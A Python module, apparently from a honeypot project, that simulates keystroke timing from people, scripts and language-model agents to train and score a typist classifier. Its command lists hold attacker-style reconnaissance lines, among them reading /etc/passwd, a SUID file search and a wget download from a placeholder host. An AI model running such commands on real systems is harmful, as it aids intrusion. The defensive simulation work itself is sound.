"""People, scripts and language-model agents who type, as generators: what they send next, how long they wait for that, and why.

The parameters of a person's typing follow published distributions (Dhakal et al., "Observations on Typing from 136 Million Keystrokes",
CHI 2018); recordings of real people are still missing. Each kind has two ranges of parameters: those that the weights of
`mirage.analysis.typist` were made with, and wider ones that judge them.
"""

from __future__ import annotations

import math
import random
from collections.abc import Callable, Generator
from typing import NamedTuple

PLAIN = [
    "ls -la", "id", "uname -a", "cat /etc/passwd", "ps aux", "df -h", "w", "ifconfig", "cd /tmp", "history", "free -m",
    "wget -T 2 -t 1 http://192.0.2.5/k",
]  # fmt: skip
HEADED = [
    'echo "=== users ===" && cat /etc/passwd | head -20',
    "ps aux 2>/dev/null | head -30",
    "find / -perm -4000 2>/dev/null | head -n 20",
    "cat /etc/os-release 2>/dev/null || echo none",
    "# Let me check the network configuration first\nip addr",
]


class Step(NamedTuple):
    """Wait so many seconds, then send; with `line`, a line is complete, and the typist wants to be told how much was printed."""

    wait: float
    data: bytes
    line: str = ""


Steps = Generator[Step, int, None]


class Person:
    """Keys with log-normal gaps, slips that are mended, thinking before each line."""

    terminal = True

    def __init__(self, dice: random.Random, judging: bool) -> None:
        self.dice = dice
        self.gap = dice.uniform(0.09, 0.34) if judging else dice.uniform(0.13, 0.28)
        self.spread = dice.uniform(0.38, 0.75) if judging else dice.uniform(0.45, 0.65)
        self.slips = dice.uniform(0.0, 0.12) if judging else dice.uniform(0.02, 0.08)

    def steps(self) -> Steps:
        dice = self.dice
        for line in dice.sample(PLAIN, dice.randint(5, 9)):
            thought = dice.lognormvariate(0.7, 0.8)
            for letter in line:
                if dice.random() < self.slips:
                    for key in (b"x", b"\x7f"):
                        yield Step(thought + self._between(), key)
                        thought = 0.0
                yield Step(thought + self._between(), letter.encode())
                thought = 0.0
            yield Step(dice.uniform(0.1, 0.4), b"\r", line)

    def _between(self) -> float:
        return self.dice.lognormvariate(math.log(self.gap), self.spread)


class Script:
    """Whole lines or keys to a beat; no waiting, or waiting by the clock; over a terminal or one exec after another."""

    def __init__(self, dice: random.Random, judging: bool) -> None:
        self.dice = dice
        self.way = dice.choice(["lines", "keys", "exec"])
        self.pause = dice.choice([0.0, 0.02, 0.3, 1.5, 2.5] if judging else [0.0, 0.05, 0.5, 1.0, 2.0])
        self.jitter = dice.uniform(0, 0.03)
        self.terminal = self.way != "exec"

    def steps(self) -> Steps:
        dice = self.dice
        for line in dice.sample(PLAIN, dice.randint(5, 9)):
            pause = self.pause + dice.uniform(0, self.jitter)
            if self.way != "keys":
                yield Step(pause, line.encode() + b"\r", line)
                continue
            for letter in line:
                yield Step(pause + 0.04 + dice.uniform(0, 0.004), letter.encode())
                pause = 0.0
            yield Step(0.04 + dice.uniform(0, 0.004), b"\r", line)


class Agent:
    """Whole lines, seconds apart, later the more there was to read; headings, guards and words in some of them."""

    def __init__(self, dice: random.Random, judging: bool) -> None:
        self.dice = dice
        self.latency = dice.uniform(1.2, 9.0) if judging else dice.uniform(2.0, 6.0)
        self.reading = dice.uniform(0.0003, 0.003) if judging else dice.uniform(0.0008, 0.002)
        self.words = dice.uniform(0.0, 0.6) if judging else dice.uniform(0.2, 0.5)
        self.terminal = dice.random() < 0.5

    def steps(self) -> Steps:
        dice, printed = self.dice, 0
        for _ in range(dice.randint(6, 11)):
            line = dice.choice(HEADED if dice.random() < self.words else PLAIN)
            wait = self.latency * dice.lognormvariate(0, 0.35) + self.reading * printed
            printed = yield Step(wait, line.encode() + b"\r", line)


KINDS: dict[str, Callable[[random.Random, bool], Person | Script | Agent]] = {"person": Person, "script": Script, "agent": Agent}


def typist(kind: str, number: int, judging: bool) -> Person | Script | Agent:
    """One of a kind, always the same for the same number."""
    return KINDS[kind](random.Random(f"{kind}{number}{judging}"), judging)


def macro_f1(found: dict[tuple[str, str], int]) -> float:
    """The mean of the kinds' F1, of counts by (what it was, what it was taken for)."""
    scores = []
    for kind in KINDS:
        hit = found.get((kind, kind), 0)
        was = sum(count for (truth, _), count in found.items() if truth == kind)
        taken = sum(count for (_, name), count in found.items() if name == kind)
        scores.append(2 * hit / (was + taken) if was + taken else 0.0)
    return sum(scores) / len(scores)
